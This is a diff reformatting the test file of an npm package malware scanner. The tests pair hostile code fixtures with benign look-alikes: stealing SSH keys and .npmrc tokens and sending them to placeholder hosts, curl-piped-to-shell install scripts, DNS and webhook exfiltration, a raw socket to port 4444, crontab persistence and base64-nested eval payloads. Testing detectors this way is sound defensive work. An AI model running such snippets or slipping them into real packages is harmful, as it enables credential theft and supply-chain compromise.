@@ -14,32 +14,100 @@ import { loadSignatures, validateSignatureFile } from '../../src/safety/scan/sig
 import { ScanPool } from '../../src/safety/scan/pool.ts';
 
 const signatures = loadSignatures();
-const manifest = (extra: Record<string, unknown> = {}) => JSON.stringify({ name: 'fixture-pkg', version: '1.0.1', main: 'index.js', ...extra });
+const manifest = (extra: Record<string, unknown> = {}) =>
+  JSON.stringify({ name: 'fixture-pkg', version: '1.0.1', main: 'index.js', ...extra });
 const scan = (files: Record<string, string | Buffer>, previous?: Record<string, string | Buffer>): ScanResult =>
-  scanTarball(packFiles({ 'package.json': manifest(), ...files }), { previous: previous ? packFiles({ 'package.json': manifest({ version: '1.0.0' }), ...previous }) : null, signatures });
+  scanTarball(packFiles({ 'package.json': manifest(), ...files }), {
+    previous: previous ? packFiles({ 'package.json': manifest({ version: '1.0.0' }), ...previous }) : null,
+    signatures,
+  });
 const rules = (r: ScanResult) => new Set(r.findings.filter((f) => f.weight > 0).map((f) => f.rule));
 
 // [rule, code that must trigger it, honest look-alike that must not]
 const RULES: Array<[string, string, string]> = [
-  ['credential-access', `const fs = require('fs'), os = require('os'), path = require('path'); fs.readFileSync(path.join(os.homedir(), '.ssh', 'id_rsa'));`, `const fs = require('fs'), os = require('os'), path = require('path'); fs.readFileSync(path.join(os.homedir(), '.config', 'app.json'));`],
-  ['credential-exfiltration', `const fs = require('fs'); const https = require('https'); https.request({ hostname: 'x.example.invalid' }).end(fs.readFileSync(require('os').homedir() + '/.npmrc'));`, `const fs = require('fs'); const https = require('https'); https.request({ hostname: 'x.example.invalid' }).end(fs.readFileSync('./data.json'));`],
+  [
+    'credential-access',
+    `const fs = require('fs'), os = require('os'), path = require('path'); fs.readFileSync(path.join(os.homedir(), '.ssh', 'id_rsa'));`,
+    `const fs = require('fs'), os = require('os'), path = require('path'); fs.readFileSync(path.join(os.homedir(), '.config', 'app.json'));`,
+  ],
+  [
+    'credential-exfiltration',
+    `const fs = require('fs'); const https = require('https'); https.request({ hostname: 'x.example.invalid' }).end(fs.readFileSync(require('os').homedir() + '/.npmrc'));`,
+    `const fs = require('fs'); const https = require('https'); https.request({ hostname: 'x.example.invalid' }).end(fs.readFileSync('./data.json'));`,
+  ],
   ['env-dump', `console.log(JSON.stringify(process.env));`, `console.log(JSON.stringify(process.env.NODE_ENV));`],
-  ['cloud-metadata', `require('http').get('http://169.254.169.254/latest/meta-data/');`, `require('http').get('http://127.0.0.1:8080/health');`],
-  ['exfiltration-endpoint', `fetch('https://discord.com/api/webhooks/1/x', { method: 'POST' });`, `fetch('https://discord.com/channels/1/2');`],
+  [
+    'cloud-metadata',
+    `require('http').get('http://169.254.169.254/latest/meta-data/');`,
+    `require('http').get('http://127.0.0.1:8080/health');`,
+  ],
+  [
+    'exfiltration-endpoint',
+    `fetch('https://discord.com/api/webhooks/1/x', { method: 'POST' });`,
+    `fetch('https://discord.com/channels/1/2');`,
+  ],
   ['raw-ip-url', `fetch('http://203.0.113.9:8080/collect');`, `fetch('http://192.168.1.10/collect');`],
-  ['shell-command', `require('child_process').exec('curl -s https://x.example.invalid/a.sh | sh');`, `require('child_process').exec('git status --porcelain');`],
+  [
+    'shell-command',
+    `require('child_process').exec('curl -s https://x.example.invalid/a.sh | sh');`,
+    `require('child_process').exec('git status --porcelain');`,
+  ],
   ['eval-decoded', `eval(Buffer.from('Y29uc29sZS5sb2coMSk=', 'base64').toString());`, `eval('1 + 1');`],
-  ['encoded-payload', `const s = '${Buffer.from("require('child_process').execSync('id')").toString('base64')}'; module.exports = s;`, `const s = '${Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, ...Array(40).fill(0x00)]).toString('base64')}'; module.exports = s;`],
-  ['obfuscated-code', Array.from({ length: 25 }, (_, i) => `var _0x${(0x1a2b + i).toString(16)}=${i};`).join(''), Array.from({ length: 25 }, (_, i) => `var a${i}=${i};`).join('')],
-  ['packed-code', `eval(function(p,a,c,k,e,d){return p}('0',0,0,''.split('|'),0,{}));`, `(function(p,a,c,k,e,d){return p})('0',0,0,[],0,{});`],
-  ['encoded-api-name', `const names = ['5f636f6d70696c65', '63726561746544656369706865726976'];`, `const colours = ['ffaa00ff', '00112233'];`],
-  ['host-fingerprint', `const os = require('os'); const https = require('https'); https.get('https://x.example.invalid/?' + os.hostname() + os.userInfo().username + os.homedir());`, `const os = require('os'); const https = require('https'); https.get('https://x.example.invalid/bin-' + os.platform() + '-' + os.arch());`],
-  ['dns-exfiltration', `const dns = require('dns'); dns.lookup(\`\${Buffer.from(require('os').hostname()).toString('hex')}.x.example.invalid\`, () => {});`, `const dns = require('dns'); dns.lookup('registry.npmjs.org', () => {});`],
-  ['raw-socket', `const net = require('net'); const s = new net.Socket(); s.connect(4444, '203.0.113.7');`, `const net = require('net'); const s = new net.Socket(); s.connect(6379, 'localhost');`],
-  ['identity-to-exfiltration-endpoint', `const os = require('os'); fetch('https://webhook.site/x?h=' + os.hostname());`, `const os = require('os'); fetch('https://api.example.invalid/status?h=' + os.hostname());`],
-  ['remote-code-eval', `require('https').get('https://x.example.invalid/p', (r) => { let d = ''; r.on('data', (c) => (d += c)); r.on('end', () => eval(d)); });`, `const src = ['1', '+', '1'].map(String).join(' '); module.exports = eval(src);`],
-  ['npm-publish', `require('child_process').execSync('npm publish --access public');`, `console.log('run npm publish when you are ready');`],
-  ['ci-workflow-write', `require('fs').writeFileSync('.github/workflows/ci.yml', 'on: push');`, `require('fs').writeFileSync('.github/CODEOWNERS', '* @me');`],
+  [
+    'encoded-payload',
+    `const s = '${Buffer.from("require('child_process').execSync('id')").toString('base64')}'; module.exports = s;`,
+    `const s = '${Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, ...Array(40).fill(0x00)]).toString('base64')}'; module.exports = s;`,
+  ],
+  [
+    'obfuscated-code',
+    Array.from({ length: 25 }, (_, i) => `var _0x${(0x1a2b + i).toString(16)}=${i};`).join(''),
+    Array.from({ length: 25 }, (_, i) => `var a${i}=${i};`).join(''),
+  ],
+  [
+    'packed-code',
+    `eval(function(p,a,c,k,e,d){return p}('0',0,0,''.split('|'),0,{}));`,
+    `(function(p,a,c,k,e,d){return p})('0',0,0,[],0,{});`,
+  ],
+  [
+    'encoded-api-name',
+    `const names = ['5f636f6d70696c65', '63726561746544656369706865726976'];`,
+    `const colours = ['ffaa00ff', '00112233'];`,
+  ],
+  [
+    'host-fingerprint',
+    `const os = require('os'); const https = require('https'); https.get('https://x.example.invalid/?' + os.hostname() + os.userInfo().username + os.homedir());`,
+    `const os = require('os'); const https = require('https'); https.get('https://x.example.invalid/bin-' + os.platform() + '-' + os.arch());`,
+  ],
+  [
+    'dns-exfiltration',
+    `const dns = require('dns'); dns.lookup(\`\${Buffer.from(require('os').hostname()).toString('hex')}.x.example.invalid\`, () => {});`,
+    `const dns = require('dns'); dns.lookup('registry.npmjs.org', () => {});`,
+  ],
+  [
+    'raw-socket',
+    `const net = require('net'); const s = new net.Socket(); s.connect(4444, '203.0.113.7');`,
+    `const net = require('net'); const s = new net.Socket(); s.connect(6379, 'localhost');`,
+  ],
+  [
+    'identity-to-exfiltration-endpoint',
+    `const os = require('os'); fetch('https://webhook.site/x?h=' + os.hostname());`,
+    `const os = require('os'); fetch('https://api.example.invalid/status?h=' + os.hostname());`,
+  ],
+  [
+    'remote-code-eval',
+    `require('https').get('https://x.example.invalid/p', (r) => { let d = ''; r.on('data', (c) => (d += c)); r.on('end', () => eval(d)); });`,
+    `const src = ['1', '+', '1'].map(String).join(' '); module.exports = eval(src);`,
+  ],
+  [
+    'npm-publish',
+    `require('child_process').execSync('npm publish --access public');`,
+    `console.log('run npm publish when you are ready');`,
+  ],
+  [
+    'ci-workflow-write',
+    `require('fs').writeFileSync('.github/workflows/ci.yml', 'on: push');`,
+    `require('fs').writeFileSync('.github/CODEOWNERS', '* @me');`,
+  ],
   ['module-compile', `const m = new module.constructor(); m._compile('', '');`, `const m = new Map();`],
 ];
 
@@ -52,10 +120,17 @@ describe('scanner rules', () => {
   }
 
   it('install scripts: routine native builds weigh nothing, a download piped to a shell is held', () => {
-    const routine = scanTarball(packFiles({ 'package.json': manifest({ scripts: { install: 'node-gyp rebuild' } }) }), { signatures });
+    const routine = scanTarball(packFiles({ 'package.json': manifest({ scripts: { install: 'node-gyp rebuild' } }) }), {
+      signatures,
+    });
     assert.equal(routine.verdict, 'clean');
     assert.ok(routine.findings.some((f) => f.rule === 'install-script' && f.weight === 0));
-    const piped = scanTarball(packFiles({ 'package.json': manifest({ scripts: { preinstall: 'curl -s https://x.example.invalid/i.sh | sh' } }) }), { signatures });
+    const piped = scanTarball(
+      packFiles({
+        'package.json': manifest({ scripts: { preinstall: 'curl -s https://x.example.invalid/i.sh | sh' } }),
+      }),
+      { signatures },
+    );
     assert.ok(rules(piped).has('install-script-command'));
     assert.notEqual(piped.verdict, 'clean');
   });
@@ -63,41 +138,98 @@ describe('scanner rules', () => {
   it('code an install script runs weighs double, and its local requires count as install-time too', () => {
     const code = `const https = require('https'); https.get('https://x.example.invalid/?' + JSON.stringify(process.env));`;
     const atRequire = scan({ 'index.js': `require('./lib/x.js');`, 'lib/x.js': code });
-    const atInstall = scanTarball(packFiles({ 'package.json': manifest({ scripts: { postinstall: 'node index.js' } }), 'index.js': `require('./lib/x.js');`, 'lib/x.js': code }), { signatures });
+    const atInstall = scanTarball(
+      packFiles({
+        'package.json': manifest({ scripts: { postinstall: 'node index.js' } }),
+        'index.js': `require('./lib/x.js');`,
+        'lib/x.js': code,
+      }),
+      { signatures },
+    );
     assert.ok(atInstall.score > atRequire.score * 1.5, `${atInstall.score} vs ${atRequire.score}`);
   });
 
   it('curl or wget sending data is a dangerous command; a plain download is not', () => {
-    assert.ok(rules(scan({ 'index.js': "require('child_process').exec('curl https://x.example.invalid/?u=$(whoami)');" })).has('shell-command'));
-    assert.ok(!rules(scan({ 'index.js': "require('child_process').exec('curl -fsSL -o bin.tgz https://x.example.invalid/bin.tgz');" })).has('shell-command'));
+    assert.ok(
+      rules(scan({ 'index.js': "require('child_process').exec('curl https://x.example.invalid/?u=$(whoami)');" })).has(
+        'shell-command',
+      ),
+    );
+    assert.ok(
+      !rules(
+        scan({
+          'index.js': "require('child_process').exec('curl -fsSL -o bin.tgz https://x.example.invalid/bin.tgz');",
+        }),
+      ).has('shell-command'),
+    );
   });
 
   it('shell commands: download piped to node, DNS lookups carrying command output, persistence; not their honest cousins', () => {
-    for (const bad of ['curl -s https://x.example.invalid/i | node', 'nslookup $(whoami).x.example.invalid', '(crontab -l; echo "* * * * * /tmp/x") | crontab -']) {
-      assert.ok(rules(scan({ 'index.js': `require('child_process').execSync(${JSON.stringify(bad)});` })).has('shell-command'), bad);
+    for (const bad of [
+      'curl -s https://x.example.invalid/i | node',
+      'nslookup $(whoami).x.example.invalid',
+      '(crontab -l; echo "* * * * * /tmp/x") | crontab -',
+    ]) {
+      assert.ok(
+        rules(scan({ 'index.js': `require('child_process').execSync(${JSON.stringify(bad)});` })).has('shell-command'),
+        bad,
+      );
     }
-    for (const good of ['node --version | head -1', 'nslookup registry.npmjs.org', 'echo "mounted on the host $(pwd)"']) {
-      assert.ok(!rules(scan({ 'index.js': `require('child_process').execSync(${JSON.stringify(good)});` })).has('shell-command'), good);
+    for (const good of [
+      'node --version | head -1',
+      'nslookup registry.npmjs.org',
+      'echo "mounted on the host $(pwd)"',
+    ]) {
+      assert.ok(
+        !rules(scan({ 'index.js': `require('child_process').execSync(${JSON.stringify(good)});` })).has(
+          'shell-command',
+        ),
+        good,
+      );
     }
   });
 
   it('install-time code that reads who or where it runs and uses the network is a beacon; platform checks are not', () => {
-    const beacon = scanTarball(packFiles({ 'package.json': manifest({ scripts: { postinstall: `node -e "require('https').get('https://x.example.invalid/?h=' + require('os').hostname())"` } }) }), { signatures });
+    const beacon = scanTarball(
+      packFiles({
+        'package.json': manifest({
+          scripts: {
+            postinstall: `node -e "require('https').get('https://x.example.invalid/?h=' + require('os').hostname())"`,
+          },
+        }),
+      }),
+      { signatures },
+    );
     assert.ok(rules(beacon).has('install-time-beacon'));
     assert.notEqual(beacon.verdict, 'clean');
-    const installer = scanTarball(packFiles({ 'package.json': manifest({ scripts: { postinstall: `node -e "require('https').get('https://x.example.invalid/bin-' + require('os').platform())"` } }) }), { signatures });
+    const installer = scanTarball(
+      packFiles({
+        'package.json': manifest({
+          scripts: {
+            postinstall: `node -e "require('https').get('https://x.example.invalid/bin-' + require('os').platform())"`,
+          },
+        }),
+      }),
+      { signatures },
+    );
     assert.ok(!rules(installer).has('install-time-beacon'));
   });
 
   it('reading npm credentials and sending data is flagged even outside install scripts', () => {
-    const r = scan({ 'lib/sync.js': `const fs = require('fs'); const https = require('https'); const t = fs.readFileSync(require('os').homedir() + '/.npmrc', 'utf8'); https.request({ hostname: 'x.example.invalid', method: 'POST' }).end(t);` });
+    const r = scan({
+      'lib/sync.js': `const fs = require('fs'); const https = require('https'); const t = fs.readFileSync(require('os').homedir() + '/.npmrc', 'utf8'); https.request({ hostname: 'x.example.invalid', method: 'POST' }).end(t);`,
+    });
     assert.notEqual(r.verdict, 'clean');
   });
 
   it('self-propagation: npm tokens plus publishing', () => {
-    const r = scan({ 'index.js': `const t = process.env.NPM_TOKEN; require('child_process').execSync('npm publish', { env: { NPM_CONFIG_TOKEN: t } });` });
+    const r = scan({
+      'index.js': `const t = process.env.NPM_TOKEN; require('child_process').execSync('npm publish', { env: { NPM_CONFIG_TOKEN: t } });`,
+    });
     assert.ok(rules(r).has('self-propagation'));
-    assert.ok(!rules(scan({ 'index.js': `require('child_process').execSync('npm publish');` })).has('self-propagation'));
+    assert.ok(
+      !rules(scan({ 'index.js': `require('child_process').execSync('npm publish');` })).has('self-propagation'),
+    );
   });
 
   it('tests and examples weigh half: they do not run on install or require', () => {
@@ -113,7 +245,9 @@ describe('scanner rules', () => {
   });
 
   it('falls back to pattern reading when the parser rejects a file (TypeScript)', () => {
-    const r = scan({ 'index.ts': `const x: string = JSON.stringify(process.env); fetch('https://api.telegram.org/bot1/sendMessage', { body: x });` });
+    const r = scan({
+      'index.ts': `const x: string = JSON.stringify(process.env); fetch('https://api.telegram.org/bot1/sendMessage', { body: x });`,
+    });
     assert.ok(rules(r).has('exfiltration-endpoint'));
     assert.ok(rules(r).has('env-dump'));
   });
@@ -127,16 +261,36 @@ describe('scanner rules', () => {
 describe('scanner verdicts and diff', () => {
   it('thresholds: suspicious at SUSPICIOUS_SCORE, malicious at MALICIOUS_SCORE', () => {
     assert.ok(SUSPICIOUS_SCORE < MALICIOUS_SCORE);
-    const r = scan({ 'index.js': `const https = require('https'); https.request({ hostname: 'x.example.invalid' }).end(JSON.stringify(process.env)); fetch('https://webhook.site/x');` });
-    assert.equal(r.verdict, r.score >= MALICIOUS_SCORE ? 'malicious' : r.score >= SUSPICIOUS_SCORE ? 'suspicious' : 'clean');
+    const r = scan({
+      'index.js': `const https = require('https'); https.request({ hostname: 'x.example.invalid' }).end(JSON.stringify(process.env)); fetch('https://webhook.site/x');`,
+    });
+    assert.equal(
+      r.verdict,
+      r.score >= MALICIOUS_SCORE ? 'malicious' : r.score >= SUSPICIOUS_SCORE ? 'suspicious' : 'clean',
+    );
     assert.notEqual(r.verdict, 'clean');
   });
 
   it('diff: a new install script, new process and network use, a new obfuscated file in a patch release', () => {
     const before = { 'index.js': `module.exports = 1;` };
     const obf = Array.from({ length: 25 }, (_, i) => `var _0x${(0x3c4d + i).toString(16)}=${i};`).join('');
-    const after = scanTarball(packFiles({ 'package.json': manifest({ scripts: { postinstall: 'node setup.js' } }), 'index.js': `module.exports = 1;`, 'setup.js': `require('child_process').spawn('x'); fetch('https://new.example.invalid/');`, 'lib/o.js': obf }), { previous: packFiles({ 'package.json': manifest({ version: '1.0.0' }), ...before }), signatures });
-    for (const rule of ['new-install-script', 'new-process-execution', 'new-network-access', 'new-obfuscated-file', 'new-network-endpoint']) assert.ok(rules(after).has(rule), rule);
+    const after = scanTarball(
+      packFiles({
+        'package.json': manifest({ scripts: { postinstall: 'node setup.js' } }),
+        'index.js': `module.exports = 1;`,
+        'setup.js': `require('child_process').spawn('x'); fetch('https://new.example.invalid/');`,
+        'lib/o.js': obf,
+      }),
+      { previous: packFiles({ 'package.json': manifest({ version: '1.0.0' }), ...before }), signatures },
+    );
+    for (const rule of [
+      'new-install-script',
+      'new-process-execution',
+      'new-network-access',
+      'new-obfuscated-file',
+      'new-network-endpoint',
+    ])
+      assert.ok(rules(after).has(rule), rule);
     assert.match(after.findings.find((f) => f.rule === 'new-install-script')!.evidence, /patch release/);
     // The same package compared with itself has no diff findings.
     const same = { 'index.js': `require('child_process').spawn('x');` };
@@ -146,16 +300,24 @@ describe('scanner verdicts and diff', () => {
 
 describe('scanner bounds', () => {
   it('a corrupt or truncated archive is reported, not thrown, and not clean', () => {
-    for (const bad of [Buffer.from('not a tarball at all'), gzipSync(Buffer.from('x'.repeat(600))), packFiles({ 'package.json': manifest() }).subarray(0, 40)]) {
+    for (const bad of [
+      Buffer.from('not a tarball at all'),
+      gzipSync(Buffer.from('x'.repeat(600))),
+      packFiles({ 'package.json': manifest() }).subarray(0, 40),
+    ]) {
       const r = scanTarball(bad, { signatures });
-      assert.ok(r.findings.some((f) => f.rule === 'unreadable-archive'), 'reported');
+      assert.ok(
+        r.findings.some((f) => f.rule === 'unreadable-archive'),
+        'reported',
+      );
       assert.notEqual(r.verdict, 'clean');
     }
   });
 
   it('nested encodings are decoded to a bounded depth', () => {
     let payload = `require('child_process').execSync('curl -s https://x.example.invalid | sh')`;
-    for (let i = 0; i < 8; i++) payload = `eval(Buffer.from('${Buffer.from(payload).toString('base64')}', 'base64').toString())`;
+    for (let i = 0; i < 8; i++)
+      payload = `eval(Buffer.from('${Buffer.from(payload).toString('base64')}', 'base64').toString())`;
     const started = performance.now();
     const r = scan({ 'index.js': payload });
     assert.ok(performance.now() - started < 5000);
@@ -167,7 +329,10 @@ describe('scanner bounds', () => {
     const r = scan({ 'index.js': `fetch('https://webhook.site/x', { body: JSON.stringify(process.env) });\n${deep}` });
     assert.ok(rules(r).has('exfiltration-endpoint'));
     assert.ok(rules(r).has('env-dump'));
-    const odd = scanTarball(packFiles({ 'package.json': '{"name": "x", "version": "1.0.0", "scripts": {"postinstall": 42}}' }), { signatures });
+    const odd = scanTarball(
+      packFiles({ 'package.json': '{"name": "x", "version": "1.0.0", "scripts": {"postinstall": 42}}' }),
+      { signatures },
+    );
     assert.equal(odd.verdict, 'clean');
   });
 
@@ -196,12 +361,36 @@ describe('signature database', () => {
     try {
       const evil = `module.exports = 'operator-flagged payload';\n`;
       const file = path.join(dir, 'local.json');
-      await writeFile(file, JSON.stringify({ format: 'bulwark-malware-signatures', version: 1, hashes: [{ sha256: createHash('sha256').update(evil).digest('hex'), description: 'local incident', source: 'ops' }], snippets: [{ id: 'ops:1', text: 'exfil.corp.example.invalid', severity: 'suspicious', description: 'seen in an incident', source: 'ops' }] }));
+      await writeFile(
+        file,
+        JSON.stringify({
+          format: 'bulwark-malware-signatures',
+          version: 1,
+          hashes: [
+            { sha256: createHash('sha256').update(evil).digest('hex'), description: 'local incident', source: 'ops' },
+          ],
+          snippets: [
+            {
+              id: 'ops:1',
+              text: 'exfil.corp.example.invalid',
+              severity: 'suspicious',
+              description: 'seen in an incident',
+              source: 'ops',
+            },
+          ],
+        }),
+      );
       const db = loadSignatures([file]);
       const byHash = scanTarball(packFiles({ 'package.json': manifest(), 'lib/x.js': evil }), { signatures: db });
       assert.equal(byHash.verdict, 'malicious');
-      assert.equal(scanTarball(packFiles({ 'package.json': manifest(), 'lib/x.js': evil }), { signatures }).verdict, 'clean');
-      const bySnippet = scanTarball(packFiles({ 'package.json': manifest(), 'a.js': `const h = 'exfil.corp.example.invalid';` }), { signatures: db });
+      assert.equal(
+        scanTarball(packFiles({ 'package.json': manifest(), 'lib/x.js': evil }), { signatures }).verdict,
+        'clean',
+      );
+      const bySnippet = scanTarball(
+        packFiles({ 'package.json': manifest(), 'a.js': `const h = 'exfil.corp.example.invalid';` }),
+        { signatures: db },
+      );
       assert.ok(rules(bySnippet).has('known-malware-snippet'));
     } finally {
       await rm(dir, { recursive: true, force: true });
@@ -210,14 +399,39 @@ describe('signature database', () => {
 
   it('rejects malformed signature files with the reason', () => {
     assert.throws(() => validateSignatureFile({ format: 'other', version: 1 }, 'x.json'), /format/);
-    assert.throws(() => validateSignatureFile({ format: 'bulwark-malware-signatures', version: 1, hashes: [{ sha256: 'ABC', description: 'd', source: 's' }] }, 'x.json'), /sha256/);
-    assert.throws(() => validateSignatureFile({ format: 'bulwark-malware-signatures', version: 1, snippets: [{ id: 'a', text: 'ab', severity: 'malicious', description: 'd', source: 's' }] }, 'x.json'), /at least 6/);
+    assert.throws(
+      () =>
+        validateSignatureFile(
+          {
+            format: 'bulwark-malware-signatures',
+            version: 1,
+            hashes: [{ sha256: 'ABC', description: 'd', source: 's' }],
+          },
+          'x.json',
+        ),
+      /sha256/,
+    );
+    assert.throws(
+      () =>
+        validateSignatureFile(
+          {
+            format: 'bulwark-malware-signatures',
+            version: 1,
+            snippets: [{ id: 'a', text: 'ab', severity: 'malicious', description: 'd', source: 's' }],
+          },
+          'x.json',
+        ),
+      /at least 6/,
+    );
   });
 });
 
 describe('scan pool', () => {
   it('scans off the main thread, and a scan over budget resolves timeout and the pool recovers', async () => {
-    const tgz = packFiles({ 'package.json': manifest(), 'index.js': `console.log(JSON.stringify(process.env)); fetch('https://webhook.site/x');` });
+    const tgz = packFiles({
+      'package.json': manifest(),
+      'index.js': `console.log(JSON.stringify(process.env)); fetch('https://webhook.site/x');`,
+    });
     const pool = new ScanPool({ size: 1, budgetMs: 30_000 });
     try {
       const r = await pool.scan(tgz);
@@ -259,15 +473,24 @@ describe('scan pool', () => {
     const starved = new ScanPool({ size: 1, budgetMs: 60_000, maxMemoryMb: 16 });
     const strings = Array.from({ length: 90_000 }, (_, i) => `'r${i}-${'x'.repeat(20)}'`).join(',\n');
     try {
-      const r = await starved.scan(packFiles({ 'package.json': manifest(), 'index.js': `require('http'); module.exports = [${strings}];` }));
-      assert.deepEqual(r.verdict === 'timeout' && { failed: r.failed, worker: /worker/.test(r.reason) }, { failed: true, worker: true });
+      const r = await starved.scan(
+        packFiles({ 'package.json': manifest(), 'index.js': `require('http'); module.exports = [${strings}];` }),
+      );
+      assert.deepEqual(r.verdict === 'timeout' && { failed: r.failed, worker: /worker/.test(r.reason) }, {
+        failed: true,
+        worker: true,
+      });
     } finally {
       await starved.close();
     }
   });
 
   it('a worker that cannot start (its signature file is gone) holds every scan and says why', async () => {
-    const broken = new ScanPool({ size: 1, budgetMs: 60_000, signatureFiles: [path.join(os.tmpdir(), `bulwark-no-such-signatures-${process.pid}.json`)] });
+    const broken = new ScanPool({
+      size: 1,
+      budgetMs: 60_000,
+      signatureFiles: [path.join(os.tmpdir(), `bulwark-no-such-signatures-${process.pid}.json`)],
+    });
     try {
       const r = await broken.scan(packFiles({ 'package.json': manifest(), 'index.js': 'module.exports = 1;' }));
       assert.equal(r.verdict, 'timeout');
@@ -281,13 +504,19 @@ describe('scan pool', () => {
 
 describe('evaluation set (committed part)', () => {
   // Floors measured when the scanner was built (docs/malware-scanning.md); a change may raise them, never lower them.
-  const FLOORS = { tuning: { recall: 1, fpOrdinary: 0, fpInstall: 0 }, heldout: { recall: 1, fpOrdinary: 0, fpInstall: 0 } };
+  const FLOORS = {
+    tuning: { recall: 1, fpOrdinary: 0, fpInstall: 0 },
+    heldout: { recall: 1, fpOrdinary: 0, fpInstall: 0 },
+  };
   for (const split of ['tuning', 'heldout'] as const) {
     it(`${split}: recall and false-positive rates do not regress`, () => {
       const f = evaluate(split, (tgz, previous) => scanTarball(tgz, { previous, signatures }));
       assert.ok(f.samples >= 10 && f.ordinary >= 40 && f.install >= 15, 'the set is not empty');
       assert.ok(f.recall >= FLOORS[split].recall, `missed: ${f.missed.join(', ')}`);
-      assert.ok(f.fpOrdinary <= FLOORS[split].fpOrdinary && f.fpInstall <= FLOORS[split].fpInstall, `false positives: ${f.falsePositives.join(', ')}`);
+      assert.ok(
+        f.fpOrdinary <= FLOORS[split].fpOrdinary && f.fpInstall <= FLOORS[split].fpInstall,
+        `false positives: ${f.falsePositives.join(', ')}`,
+      );
     });
   }
 });
